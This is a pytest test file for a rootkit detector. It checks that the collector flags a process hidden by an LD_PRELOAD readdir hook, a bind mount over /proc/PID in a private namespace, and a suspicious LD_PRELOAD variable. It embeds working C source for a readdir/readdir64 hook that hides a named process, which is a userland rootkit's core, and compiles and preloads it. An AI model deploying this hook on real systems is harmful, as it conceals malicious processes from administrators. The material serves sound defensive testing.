"""Rootkit cross-checks against the real thing: a readdir-hooking preload library (as
libprocesshider does) hiding a real process from the collector, a bind mount over /proc/PID in a
private mount namespace, and a real process started with LD_PRELOAD."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

from backends.decode import Decoder
from domain.detect import Detector
from domain.findings import Severity

REPO = Path(__file__).resolve().parent.parent
COLLECTOR = REPO / "backends" / "collector.py"
linux = pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="needs Linux /proc")

# A userland rootkit's core: readdir() skips the /proc entry of any process named HIDE_NAME.
HIDER_C = r"""
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
static const char *hide = HIDE_NAME;
static int hidden(DIR *d, struct dirent *e) {
    char dir[256], path[512], comm[256] = {0};
    int fd = dirfd(d);
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    ssize_t n = readlink(path, dir, sizeof dir - 1);
    if (n < 0) return 0;
    dir[n] = 0;
    if (strcmp(dir, "/proc") != 0) return 0;
    snprintf(path, sizeof path, "/proc/%s/comm", e->d_name);
    FILE *f = fopen(path, "r");
    if (!f) return 0;
    if (!fgets(comm, sizeof comm, f)) comm[0] = 0;
    fclose(f);
    comm[strcspn(comm, "\n")] = 0;
    return strcmp(comm, hide) == 0;
}
struct dirent *readdir(DIR *d) {
    static struct dirent *(*real)(DIR *);
    if (!real) real = dlsym(RTLD_NEXT, "readdir");
    struct dirent *e;
    while ((e = real(d)) && hidden(d, e)) {}
    return e;
}
struct dirent64 *readdir64(DIR *d) {
    static struct dirent64 *(*real)(DIR *);
    if (!real) real = dlsym(RTLD_NEXT, "readdir64");
    struct dirent64 *e;
    while ((e = real(d)) && hidden(d, (struct dirent *)e)) {}
    return e;
}
"""


def _collector(
    *args: str, env: dict[str, str] | None = None, prefix: list[str] | None = None
) -> dict:
    """Run the collector the way it runs on a target and return its samples (a list)."""
    script = (
        f"import json,sys,time;sys.path.insert(0,{str(COLLECTOR.parent)!r});"
        "from collector import Collector;c=Collector();out=[]\n"
        "for i in range(3):\n    out.append(c.sample());time.sleep(0.2)\n"
        "print(json.dumps(out))"
    )
    result = subprocess.run(
        [sys.executable, "-I", "-S", "-c", script, *args],
        capture_output=True,
        timeout=120,
        check=True,
        env=env,
    )
    return json.loads(result.stdout)  # type: ignore[no-any-return]


@pytest.fixture
def sleeper() -> Iterator[tuple[subprocess.Popen[bytes], str]]:
    name = "hid" + uuid.uuid4().hex[:8]
    proc = subprocess.Popen(
        [
            sys.executable,
            "-c",
            f"open('/proc/self/comm','w').write({name!r});"
            "print('ready',flush=True);import time;time.sleep(120)",
        ],
        stdout=subprocess.PIPE,
    )
    assert proc.stdout is not None and proc.stdout.readline().strip() == b"ready"
    try:
        yield proc, name
    finally:
        proc.kill()
        proc.wait()


@linux
@pytest.mark.skipif(shutil.which("gcc") is None, reason="needs gcc (./dev test installs it)")
def test_a_process_hidden_by_a_readdir_hook_is_found_and_confirmed(
    sleeper: tuple[subprocess.Popen[bytes], str], tmp_path: Path
) -> None:
    proc, name = sleeper
    source = tmp_path / "hider.c"
    source.write_text(HIDER_C.replace("HIDE_NAME", json.dumps(name)))
    library = tmp_path / "libhider.so"
    subprocess.run(
        ["gcc", "-shared", "-fPIC", "-O2", "-o", str(library), str(source), "-ldl"],
        check=True,
        timeout=120,
    )
    env = {**os.environ, "LD_PRELOAD": str(library)}
    samples = _collector(env=env)
    listed = {p["pid"] for s in samples for p in s["processes"]}
    assert proc.pid not in listed  # the hook works: the listing no longer has it
    assert samples[0]["hidden"] == []  # one look is a suspicion, not a finding
    hidden = samples[-1]["hidden"]
    assert [h["pid"] for h in hidden] == [proc.pid]
    assert hidden[0]["name"] == name
    snapshot = Decoder().decode(samples[-1], "test")
    findings = Detector().evaluate(snapshot, None, host="test")
    found = [f for f in findings if f.rule_id == "ROOTKIT-HIDDEN-PROCESS"]
    assert len(found) == 1 and found[0].evidence.pid == proc.pid
    assert found[0].severity == Severity.CRITICAL


@linux
def test_nothing_is_hidden_on_a_clean_host(sleeper: tuple[subprocess.Popen[bytes], str]) -> None:
    samples = _collector()
    assert all(s["hidden"] == [] for s in samples)
    assert all(s["proc_mounts"] == [] for s in samples)


@linux
@pytest.mark.skipif(os.geteuid() != 0 or shutil.which("unshare") is None, reason="needs root")
def test_a_bind_mount_over_proc_pid_is_reported(
    sleeper: tuple[subprocess.Popen[bytes], str], tmp_path: Path
) -> None:
    """In a private mount namespace (never the test machine's own), hide the sleeper's /proc
    entry under an empty directory, as a rootkit without a kernel module does."""
    proc, _ = sleeper
    empty = tmp_path / "empty"
    empty.mkdir()
    script = (
        f"mount --bind {empty} /proc/{proc.pid} && "
        f"exec {sys.executable} -I -S -c "
        f'\'import json,sys;sys.path.insert(0,"{COLLECTOR.parent}");'
        "from collector import Collector;c=Collector();c.sample();print(json.dumps(c.sample()))'"
    )
    result = subprocess.run(
        ["unshare", "--mount", "--propagation", "private", "sh", "-c", script],
        capture_output=True,
        timeout=120,
        check=False,
    )
    if result.returncode != 0 and b"Operation not permitted" in result.stderr:
        pytest.skip("this machine does not allow mount namespaces")
    assert result.returncode == 0, result.stderr
    sample = json.loads(result.stdout)
    assert sample["proc_mounts"] == [f"/proc/{proc.pid}"]
    findings = Detector().evaluate(Decoder().decode(sample, "t"), None, host="t")
    assert [f.evidence.path for f in findings if f.rule_id == "ROOTKIT-PROC-MOUNT"] == [
        f"/proc/{proc.pid}"
    ]
    # and the test machine's own /proc was never touched
    assert f"/proc/{proc.pid}" not in Path("/proc/self/mountinfo").read_text()


@linux
def test_ld_preload_in_a_process_environment(tmp_path: Path) -> None:
    hidden_lib = "/dev/shm/.x/libntp.so"  # does not exist: the loader warns and runs anyway
    proc = subprocess.Popen(
        ["sleep", "60"],
        env={**os.environ, "LD_PRELOAD": hidden_lib},
        stderr=subprocess.DEVNULL,
    )
    try:
        samples = _collector()
        mine = next(p for p in samples[-1]["processes"] if p["pid"] == proc.pid)
        assert mine["ld_preload"] == hidden_lib
        snapshot = Decoder().decode(samples[-1], "t")
        findings = [
            f
            for f in Detector().evaluate(snapshot, None, host="t")
            if f.rule_id == "PROC-PRELOAD-ENV" and f.evidence.pid == proc.pid
        ]
        assert len(findings) == 1 and findings[0].severity == Severity.CRITICAL
        assert hidden_lib in (findings[0].evidence.text or "")
    finally:
        proc.kill()
        proc.wait()
